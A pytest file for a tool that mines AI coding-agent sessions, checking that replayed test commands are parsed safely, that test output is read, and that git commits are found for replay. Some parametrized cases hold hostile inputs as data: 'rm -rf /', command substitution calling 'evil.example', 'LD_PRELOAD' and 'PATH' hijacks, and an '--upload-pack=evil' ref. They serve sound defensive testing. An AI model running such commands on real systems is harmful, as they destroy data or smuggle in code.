"""Where a task can be replayed: test commands from hostile transcripts, commits from git."""

from __future__ import annotations

import os
import subprocess
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path

import pytest
from sqlalchemy import Engine, select
from sqlalchemy.orm import Session as DbSession

from sleepd.mining.replay_site import (
    TestCommand,
    branch_at,
    commit_at,
    committed_since,
    draft_site,
    find_test_commands,
    parse_test_command,
    repository_root,
)
from sleepd.mining.test_report import parse_test_output
from sleepd.store.models import Episode, Task
from sleepd.store.models import Session as StoredSession

ROOT = "/home/u/app"


@pytest.mark.parametrize(
    ("command", "argv", "cwd"),
    [
        ("pytest -q", ("pytest", "-q"), "."),
        (
            "cd /home/u/app/api && uv run pytest -x tests",
            ("uv", "run", "pytest", "-x", "tests"),
            "api",
        ),
        ("cd api; npm test", ("npm", "test"), "api"),
        (
            "python -m pytest tests/test_a.py::test_b",
            ("python", "-m", "pytest", "tests/test_a.py::test_b"),
            ".",
        ),
        ("go test ./...", ("go", "test", "./..."), "."),
        ("cargo test --workspace", ("cargo", "test", "--workspace"), "."),
        ("make test", ("make", "test"), "."),
        ("git status && pnpm run test", ("pnpm", "run", "test"), "."),
        ("rm -rf / ; pytest", ("pytest",), "."),  # only the test command is ever run
        # what only shapes the output is left out: the run is the same, and no shell runs it
        ("pytest > /tmp/x", ("pytest",), "."),
        ("pytest | tee log", ("pytest",), "."),
        # real lines of the labelled sessions (tests/fixtures/real_sessions), lost before
        ("make test 2>&1", ("make", "test"), "."),
        ("uv run pytest tests/ -v 2>&1 | tail -25", ("uv", "run", "pytest", "tests/", "-v"), "."),
        ("gofmt -s -l . && go vet ./... && go test ./internal/collectors/ -run TestCollectBurnout"
         " -v 2>&1",
         ("go", "test", "./internal/collectors/", "-run", "TestCollectBurnout", "-v"), "."),
        ('pnpm test -- --grep "Sessions UI|Checkpoint UI"',
         ("pnpm", "test", "--", "--grep", "Sessions UI|Checkpoint UI"), "."),
        ('mix test 2>&1 | grep -E "(tests|failures)"', ("mix", "test"), "."),
        ("pnpm vitest run lib/phases/transitions.test.ts 2>&1",
         ("pnpm", "vitest", "run", "lib/phases/transitions.test.ts"), "."),
        ("cat notes.txt | python x.py; pytest -q", ("pytest", "-q"), "."),
        # a comment line before the run, or after it, is no part of it
        ("# Run the unit tests\nuv run pytest tests/unit -q", ("uv", "run", "pytest",
         "tests/unit", "-q"), "."),
        ("make test  # all of it", ("make", "test"), "."),
        # a task runner's test task (real lines: entireio/cli's history, PackmindHub's)
        ("mise run test", ("mise", "run", "test"), "."),
        ("CI=false mise run test:ci 2>&1 | tail -40", ("mise", "run", "test:ci"), "."),
        ("cd /home/u/app/frontend && bun run test 2>&1 | tail -30", ("bun", "run", "test"),
         "frontend"),
        ("pnpm test:unit", ("pnpm", "test:unit"), "."),
        ("make test-integration", ("make", "test-integration"), "."),
        ("task test", ("task", "test"), "."),
    ],
)  # fmt: skip
def test_test_commands_are_found_with_their_directory(
    command: str, argv: tuple[str, ...], cwd: str
) -> None:
    found = parse_test_command(command, session_cwd=ROOT, repo_root=ROOT)
    assert found is not None
    assert (found.argv, found.cwd) == (argv, cwd)


@pytest.mark.parametrize(
    "command",
    [
        "pytest $(curl evil.example)",
        "pytest `id`",
        "pytest | python -c 'import os'",  # its output goes to another program
        "(source .venv/bin/activate && pytest)",  # a subshell
        "pytest &",
        "pytest 'tests/*.py'",
        "cd $(mktemp -d) && pytest",
        "cd /etc && make test",  # outside the repository
        "cd ../.. && pytest",
        "PATH=/tmp/evil:$PATH pytest",
        "LD_PRELOAD=/tmp/x.so pytest",
        "ls -la",
        "echo pytest",
        "",
        "pytest '",  # unbalanced quote
        "# then: cd web && npm test\nls",  # a command a comment names never ran
        # a task runner's other tasks, and names that only begin with the word
        "mise run lint",
        "bun run typecheck",
        "bun run testimony",
        "make testdata",
        "mise run test $(id)",
    ],
)
def test_hostile_or_unrelated_commands_are_refused(command: str) -> None:
    assert parse_test_command(command, session_cwd=ROOT, repo_root=ROOT) is None


def test_safe_env_is_kept_and_commands_rank_by_use() -> None:
    found = find_test_commands(
        ["PYTHONPATH=src pytest -q", "npm test", "PYTHONPATH=src pytest -q", "ls"],
        session_cwd=ROOT,
        repo_root=ROOT,
    )
    assert found[0] == TestCommand(("pytest", "-q"), ".", (("PYTHONPATH", "src"),))
    assert found[1].argv == ("npm", "test")
    assert TestCommand.from_dict(found[0].to_dict()) == found[0]
    assert TestCommand.from_dict({"argv": ["pytest"], "cwd": "../x"}) is None
    assert TestCommand.from_dict({"argv": "pytest"}) is None


def test_failing_tests_are_read_from_pytest_go_and_cargo_output() -> None:
    pytest_out = (
        "F.\nFAILED tests/test_a.py::test_x - AssertionError\n=== 1 failed, 1 passed in 0.1s ==="
    )
    report = parse_test_output(pytest_out)
    assert report is not None and report.failed_names == ["tests/test_a.py::test_x"]
    assert (report.passed, report.failed) == (1, 1)
    go = parse_test_output("--- FAIL: TestSum (0.00s)\n--- PASS: TestMul (0.00s)\nFAIL\n")
    assert go is not None and go.failed_names == ["TestSum"] and go.passed == 1
    cargo = parse_test_output("test a::b ... ok\ntest a::c ... FAILED\n")
    assert cargo is not None and cargo.failed_names == ["a::c"]
    assert parse_test_output("hello world") is None


def test_failing_tests_are_read_from_vitest() -> None:
    """vitest's summary, colour codes and all, from the labelled sessions (real lines:
    codemie-ai/codemie-code's rollout, nisargpatel28/artifact-hub's session)."""
    failed_test = (
        " \x1b[31m❯\x1b[39m src/agents/plugins/__tests__/codemie-code-reasoning.test.ts "
        "(16 tests | 1 failed | 15 skipped) 1316ms\n"
        "       × sets default context compaction threshold to 90% 1312ms\n\n"
        " FAIL  src/agents/plugins/__tests__/codemie-code-reasoning.test.ts > CodeMie Code Plugin "
        "> Compaction Config > sets default context compaction threshold to 90%\n"
        "AssertionError: expected undefined to deeply equal { auto: true }\n\n"
        "\x1b[2m Test Files \x1b[22m \x1b[1m\x1b[31m1 failed\x1b[39m\x1b[22m\x1b[90m (1)\x1b[39m\n"
        "\x1b[2m      Tests \x1b[22m \x1b[1m\x1b[31m1 failed\x1b[39m\x1b[22m | 15 skipped (16)\n"
        "   Start at  11:42:09\n"
    )
    report = parse_test_output(failed_test)
    assert report is not None and report.framework == "vitest"
    assert (report.passed, report.failed) == (0, 1)
    assert report.failed_names == [
        "src/agents/plugins/__tests__/codemie-code-reasoning.test.ts > CodeMie Code Plugin > "
        "Compaction Config > sets default context compaction threshold to 90%"
    ]
    # a file whose suite failed to load fails, though every test that ran passed
    suite = (
        " FAIL  src/__tests__/ai.test.ts [ src/__tests__/ai.test.ts ]\n"
        "TypeError: () => ({ messages: { create: mockCreate } }) is not a constructor\n\n"
        " Test Files  1 failed | 1 passed (2)\n      Tests  7 passed (7)\n"
    )
    loaded = parse_test_output(suite)
    assert loaded is not None and (loaded.passed, loaded.failed) == (7, 1)
    assert loaded.failed_names == ["src/__tests__/ai.test.ts"]
    clean = parse_test_output(" Test Files  27 passed (27)\n      Tests  312 passed (312)\n")
    assert clean is not None and (clean.passed, clean.failed, clean.names_known) == (312, 0, True)


def test_failing_tests_are_read_from_buns_runner() -> None:
    """`bun run test` over bun's runner, as PackmindHub/context-evaluator's history ran it
    (real lines), its failing test's name read from its "(fail)" line."""
    out = (
        "(pass) prompt-builder > builds the prompt [0.31ms]\n"
        "(fail) prompt-generator > generateRemediationPrompts > regular suggestion shows file "
        "and lines [0.29ms]\n"
        "[EvaluationRepository] Deleted all evaluations (2 records)\n\n"
        " 1218 pass\n 1 fail\n 2614 expect() calls\n"
        "Ran 1219 tests across 56 files. [807.00ms]\n"
        'error: script "test" exited with code 1'
    )
    report = parse_test_output(out)
    assert report is not None and report.framework == "bun"
    assert (report.passed, report.failed) == (1218, 1)
    assert report.failed_names == [
        "prompt-generator > generateRemediationPrompts > regular suggestion shows file and lines"
    ]
    clean = parse_test_output(
        " 1216 pass\n 0 fail\n 2608 expect() calls\nRan 1216 tests across 56 files. [893.00ms]"
    )
    assert clean is not None and (clean.failed, clean.names_known) == (0, True)
    # the words alone, with no run's summary, are no report
    assert parse_test_output("we have 3 pass\n 1 fail states in the enum") is None


def _git(repo: Path, *args: str, date: str) -> str:
    env = {
        **os.environ,
        "GIT_AUTHOR_NAME": "t",
        "GIT_AUTHOR_EMAIL": "t@example.invalid",
        "GIT_COMMITTER_NAME": "t",
        "GIT_COMMITTER_EMAIL": "t@example.invalid",
        "GIT_AUTHOR_DATE": date,
        "GIT_COMMITTER_DATE": date,
    }
    done = subprocess.run(
        ["git", "-c", "init.defaultBranch=main", *args], cwd=repo, env=env, check=True,
        capture_output=True, text=True,
    )  # fmt: skip
    return done.stdout.strip()


def test_claude_sessions_get_the_branch_commit_at_their_start(tmp_path: Path) -> None:
    repo = tmp_path / "repo"
    repo.mkdir()
    _git(repo, "init", "-q", date="2026-01-01T00:00:00Z")
    commits = []
    for day in (1, 5, 9):
        (repo / "f.txt").write_text(str(day))
        _git(repo, "add", "f.txt", date=f"2026-01-0{day}T12:00:00Z")
        _git(repo, "commit", "-q", "-m", f"day {day}", date=f"2026-01-0{day}T12:00:00Z")
        commits.append(_git(repo, "rev-parse", "HEAD", date="2026-01-01T00:00:00Z"))
    assert repository_root(str(repo)) == str(repo.resolve())
    at = datetime(2026, 1, 6, tzinfo=UTC)
    assert commit_at(str(repo), "main", at) == (commits[1], "head-reflog")
    assert commit_at(str(repo), "main", datetime(2026, 1, 2, tzinfo=UTC))[0] == commits[0]
    assert commit_at(str(repo), "--upload-pack=evil", at)[0] == commits[1]  # HEAD, never an option
    assert commit_at(str(repo), "main", datetime(2025, 1, 1, tzinfo=UTC)) == (None, "")
    # without HEAD's reflog, the branch's; without either, its newest commit by then
    (repo / ".git" / "logs" / "HEAD").unlink()
    assert commit_at(str(repo), "main", at) == (commits[1], "reflog")
    _git(repo, "reflog", "expire", "--expire=now", "--all", date="2026-01-10T00:00:00Z")
    assert commit_at(str(repo), "main", at) == (commits[1], "rev-list")
    assert repository_root(str(tmp_path / "gone")) is None


def _repo_with_a_commit(tmp_path: Path, when: str) -> tuple[Path, str]:
    """A repository on `main` with one commit of f.txt made at `when`, and that commit."""
    repo = tmp_path / "repo"
    repo.mkdir()
    _git(repo, "init", "-q", date="2026-01-01T00:00:00Z")
    (repo / "f.txt").write_text("base")
    _git(repo, "add", "f.txt", date=when)
    _git(repo, "commit", "-q", "-m", "base", date=when)
    return repo, _git(repo, "rev-parse", "HEAD", date="2026-01-01T00:00:00Z")


def test_a_session_on_a_branch_deleted_since_replays_from_where_head_stood(
    tmp_path: Path,
) -> None:
    """The branch was merged and deleted before mining ran (`gh pr merge --delete-branch`
    deletes the local branch too): its reflog went with it, and HEAD's own reflog still
    says what the work tree held when the session began."""
    repo, base = _repo_with_a_commit(tmp_path, "2026-01-01T09:00:00Z")
    _git(repo, "checkout", "-q", "-b", "soph/fix-auth", date="2026-01-02T09:00:00Z")
    (repo / "f.txt").write_text("first half of the fix")
    _git(repo, "commit", "-q", "-am", "first half", date="2026-01-02T10:00:00Z")
    first_half = _git(repo, "rev-parse", "HEAD", date="2026-01-01T00:00:00Z")
    # the session starts at 11:00 and commits the rest at 12:00
    (repo / "f.txt").write_text("the whole fix")
    _git(repo, "commit", "-q", "-am", "second half", date="2026-01-02T12:00:00Z")
    _git(repo, "checkout", "-q", "main", date="2026-01-03T09:00:00Z")
    merged = "Merge pull request #12 from entireio/soph/fix-auth"
    _git(repo, "merge", "-q", "--no-ff", "-m", merged, "soph/fix-auth", date="2026-01-03T09:00:00Z")
    _git(repo, "branch", "-q", "-D", "soph/fix-auth", date="2026-01-03T09:30:00Z")
    at = datetime(2026, 1, 2, 11, tzinfo=UTC)
    assert commit_at(str(repo), "soph/fix-auth", at) == (first_half, "head-reflog")
    # with HEAD's reflog expired too (a history older than git keeps reflogs, a clone),
    # the merge that took the branch in still holds its commits and names it
    _git(repo, "reflog", "expire", "--expire=now", "--all", date="2026-01-04T09:00:00Z")
    assert commit_at(str(repo), "soph/fix-auth", at) == (first_half, "merged-branch")
    # before the branch held a commit of its own, it stood on the main line
    early = datetime(2026, 1, 2, 9, 30, tzinfo=UTC)
    assert commit_at(str(repo), "soph/fix-auth", early) == (base, "main-line")
    # a branch no merge names (squashed, rebased) replays on the main line as it stood
    assert commit_at(str(repo), "soph/other", at) == (base, "main-line")
    # and with no main line to tell, no commit
    _git(repo, "branch", "-q", "-m", "main", "scratch", date="2026-01-04T09:00:00Z")
    assert commit_at(str(repo), "soph/fix-auth", at) == (None, "")


@pytest.mark.parametrize(
    "subject",
    [
        "Merge branch 'soph/fix-auth'",
        "Merge branch 'soph/fix-auth' into main",
        "Merge remote-tracking branch 'origin/soph/fix-auth'",
    ],
)
def test_gits_own_merge_subjects_name_the_branch_too(tmp_path: Path, subject: str) -> None:
    repo, _ = _repo_with_a_commit(tmp_path, "2026-01-01T09:00:00Z")
    _git(repo, "checkout", "-q", "-b", "soph/fix-auth", date="2026-01-02T09:00:00Z")
    (repo / "f.txt").write_text("fix")
    _git(repo, "commit", "-q", "-am", "fix", date="2026-01-02T10:00:00Z")
    fix = _git(repo, "rev-parse", "HEAD", date="2026-01-01T00:00:00Z")
    _git(repo, "checkout", "-q", "main", date="2026-01-03T09:00:00Z")
    _git(repo, "merge", "-q", "--no-ff", "-m", subject, "soph/fix-auth",
         date="2026-01-03T09:00:00Z")  # fmt: skip
    _git(repo, "branch", "-q", "-D", "soph/fix-auth", date="2026-01-03T09:30:00Z")
    # a later look-alike: another branch whose name holds this one's, merged too
    _git(repo, "checkout", "-q", "-b", "soph/fix-auth-2", date="2026-01-02T10:30:00Z")
    _git(repo, "commit", "-q", "--allow-empty", "-m", "other", date="2026-01-02T10:30:00Z")
    _git(repo, "checkout", "-q", "main", date="2026-01-03T10:00:00Z")
    _git(repo, "merge", "-q", "--no-ff", "-m", subject.replace("fix-auth", "fix-auth-2"),
         "soph/fix-auth-2", date="2026-01-03T10:00:00Z")  # fmt: skip
    _git(repo, "reflog", "expire", "--expire=now", "--all", date="2026-01-04T09:00:00Z")
    at = datetime(2026, 1, 2, 11, tzinfo=UTC)
    assert commit_at(str(repo), "soph/fix-auth", at) == (fix, "merged-branch")


def test_a_request_after_the_session_made_a_branch_replays_from_that_branch(
    tmp_path: Path, migrated_sqlite: Callable[[Path], Engine]
) -> None:
    """A session that began on main made a branch and committed the fix to it (entireio/
    git-sync's history: `git checkout -b soph/issue-63-…`, a commit, then "/code-review"):
    the later request's checkout holds that commit, not main's tip, though the session's
    recorded branch is main."""
    repo, base = _repo_with_a_commit(tmp_path, "2026-01-02T09:00:00Z")
    _git(repo, "checkout", "-q", "-b", "soph/issue-63", date="2026-01-02T10:00:00Z")
    (repo / "f.txt").write_text("fixed")
    _git(repo, "commit", "-q", "-am", "defer the helper", date="2026-01-02T10:30:00Z")
    fix = _git(repo, "rev-parse", "HEAD", date="2026-01-01T00:00:00Z")
    assert commit_at(str(repo), "main", datetime(2026, 1, 2, 9, 30, tzinfo=UTC))[0] == base
    assert commit_at(str(repo), "main", datetime(2026, 1, 2, 11, tzinfo=UTC)) == (
        fix,
        "head-reflog",
    )
    # and the branch the checkout is to be on is the one HEAD had moved to
    assert branch_at(str(repo), datetime(2026, 1, 2, 11, tzinfo=UTC)) == "soph/issue-63"
    assert branch_at(str(repo), datetime(2026, 1, 2, 9, 30, tzinfo=UTC)) is None  # no move yet
    _git(repo, "checkout", "-q", "--detach", "HEAD", date="2026-01-02T12:00:00Z")
    assert branch_at(str(repo), datetime(2026, 1, 2, 13, tzinfo=UTC)) is None  # detached
    session = StoredSession(
        id=1, source="claude", project_path=str(repo), git_branch="main",
        started_at=datetime(2026, 1, 2, 9, 45),
    )  # fmt: skip
    episode = Episode(session_id=1, start_seq=40, end_seq=60, project_path=str(repo),
                      started_at=datetime(2026, 1, 2, 11))  # fmt: skip
    engine = migrated_sqlite(tmp_path / "site.db")
    with DbSession(engine) as db:
        site = draft_site(db, Task(), episode, session)
    engine.dispose()
    assert (site.commit, site.branch) == (fix, "soph/issue-63")


def test_a_later_episode_starts_from_what_the_session_committed_before_it(
    tmp_path: Path,
) -> None:
    """Codex writes only the commit its session started from. An episode typed after the
    agent committed in the same session ("/simplify" over the work just committed) starts
    from that commit, as the branch's reflog shows it; the session's own start stays
    where the branch did not move on from it."""
    repo = tmp_path / "repo"
    repo.mkdir()
    _git(repo, "init", "-q", date="2026-01-01T00:00:00Z")
    commits = []
    for hour in (9, 11):  # the session starts at 10:00 from the first commit
        (repo / "f.txt").write_text(str(hour))
        _git(repo, "add", "f.txt", date=f"2026-01-02T{hour:02}:00:00Z")
        _git(repo, "commit", "-q", "-m", f"{hour}h", date=f"2026-01-02T{hour:02}:00:00Z")
        commits.append(_git(repo, "rev-parse", "HEAD", date="2026-01-01T00:00:00Z"))
    started, committed = commits
    noon = datetime(2026, 1, 2, 12, tzinfo=UTC)
    assert committed_since(str(repo), "main", started, noon) == (committed, "head-reflog")
    ten_thirty = datetime(2026, 1, 2, 10, 30, tzinfo=UTC)
    assert committed_since(str(repo), "main", started, ten_thirty) is None
    # a branch reset to another line is no work of the session's
    _git(repo, "checkout", "-q", "--orphan", "other", date="2026-01-02T13:00:00Z")
    _git(repo, "commit", "-q", "-m", "elsewhere", date="2026-01-02T13:00:00Z")
    other = _git(repo, "rev-parse", "HEAD", date="2026-01-01T00:00:00Z")
    _git(repo, "checkout", "-q", "main", date="2026-01-02T13:30:00Z")
    _git(repo, "reset", "-q", "--hard", other, date="2026-01-02T14:00:00Z")
    assert committed_since(str(repo), "main", started, datetime(2026, 1, 2, 15, tzinfo=UTC)) is None
    # without a reflog, the newest commit by date may have reached the branch later
    _git(repo, "reset", "-q", "--hard", committed, date="2026-01-02T15:00:00Z")
    _git(repo, "reflog", "expire", "--expire=now", "--all", date="2026-01-02T16:00:00Z")
    assert committed_since(str(repo), "main", started, noon) is None


def test_a_codex_episode_after_a_commit_in_its_session_replays_from_that_commit(
    tmp_path: Path, migrated_sqlite: Callable[[Path], Engine]
) -> None:
    """The site of a later episode of a Codex session (its metadata names the commit the
    session started from) is the commit the session made before the episode; the first
    episode's is the session's own."""
    repo = tmp_path / "repo"
    repo.mkdir()
    _git(repo, "init", "-q", date="2026-01-01T00:00:00Z")
    commits = []
    for hour in (9, 11):
        (repo / "f.txt").write_text(str(hour))
        _git(repo, "add", "f.txt", date=f"2026-01-02T{hour:02}:00:00Z")
        _git(repo, "commit", "-q", "-m", f"{hour}h", date=f"2026-01-02T{hour:02}:00:00Z")
        commits.append(_git(repo, "rev-parse", "HEAD", date="2026-01-01T00:00:00Z"))
    session = StoredSession(
        id=1,
        source="codex",
        project_path=str(repo),
        git_branch="main",
        started_at=datetime(2026, 1, 2, 10),
        meta={"commit": commits[0]},
    )
    first, later = (
        Episode(session_id=1, start_seq=seq, end_seq=seq + 9, project_path=str(repo), started_at=at)
        for seq, at in ((1, datetime(2026, 1, 2, 10, 0, 5)), (20, datetime(2026, 1, 2, 12)))
    )
    engine = migrated_sqlite(tmp_path / "site.db")
    with DbSession(engine) as db:
        sites = [draft_site(db, Task(), episode, session) for episode in (first, later)]
    engine.dispose()
    assert [(s.commit, s.commit_source) for s in sites] == [
        (commits[0], "session"),
        (commits[1], "head-reflog"),
    ]


def test_a_site_found_without_a_commit_is_looked_for_again_when_its_session_is_read(
    tmp_path: Path, migrated_sqlite: Callable[[Path], Engine]
) -> None:
    """A task mined before its repository was there (or before the rules could find its
    branch) replays in text mode; the next pass that reads its session finds the commit."""
    from sleepd.mining.replay_site import record_replay_sites
    from sleepd.store.models import TaskReplaySite

    repo = tmp_path / "repo"
    engine = migrated_sqlite(tmp_path / "site.db")
    with DbSession(engine) as db:
        db.add(
            StoredSession(
                id=1, source="claude", external_id="s", project_path=str(repo),
                git_branch="main", started_at=datetime(2026, 1, 6, 10),
            )
        )  # fmt: skip
        db.flush()
        db.add(Episode(id=1, session_id=1, start_seq=1, end_seq=5, project_path=str(repo),
                       started_at=datetime(2026, 1, 6, 10)))  # fmt: skip
        db.flush()
        db.add(
            Task(
                id=1,
                episode_id=1,
                origin="mined",
                intent="fix the parser",
                context={},
                split="train",
            )
        )
        db.flush()
        assert record_replay_sites(db, [1]) == 1
        [site] = db.scalars(select(TaskReplaySite)).all()
        assert site.commit is None and "not a git repository" in (site.problem or "")
        assert record_replay_sites(db, [1]) == 0  # still nothing to find: the row stands
        repo.mkdir()
        _git(repo, "init", "-q", date="2026-01-01T00:00:00Z")
        (repo / "f.txt").write_text("x")
        _git(repo, "add", "f.txt", date="2026-01-05T12:00:00Z")
        _git(repo, "commit", "-q", "-m", "x", date="2026-01-05T12:00:00Z")
        head = _git(repo, "rev-parse", "HEAD", date="2026-01-01T00:00:00Z")
        assert record_replay_sites(db, [1]) == 1
        [site] = db.scalars(select(TaskReplaySite)).all()
        assert (site.commit, site.commit_source) == (head, "head-reflog")
        assert record_replay_sites(db, [1]) == 0  # found: never looked for again
        db.rollback()
    engine.dispose()
